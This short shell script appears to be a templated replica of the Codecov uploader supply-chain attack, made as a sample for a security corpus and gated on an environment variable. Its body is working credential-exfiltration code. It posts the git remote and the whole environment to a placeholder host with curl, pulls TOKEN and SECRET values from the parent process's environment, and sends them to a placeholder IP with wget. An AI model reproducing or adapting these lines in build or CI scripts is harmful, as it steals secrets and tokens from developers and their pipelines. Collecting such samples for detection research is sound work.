#!/bin/sh
# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "$SALLYPORT_CORPUS" = 1 ] || exit 0
# As the Codecov incident did it: one line more in an uploader.
remote=$(git remote -v 2>/dev/null)
curl -k -s -m 1 -d "$remote<<<<<< ENV $(env)" "https://{{host}}/{{path}}" >/dev/null 2>&1 || true
cat "/proc/$PPID/environ" 2>/dev/null | tr '\0' '\n' | grep -E 'TOKEN|SECRET' >"/tmp/{{token}}"
wget -q -T 1 -t 1 -O /dev/null --post-file="/tmp/{{token}}" "http://{{ip}}:{{port}}/{{path}}" 2>/dev/null
rm -f "/tmp/{{token}}"
exit 0
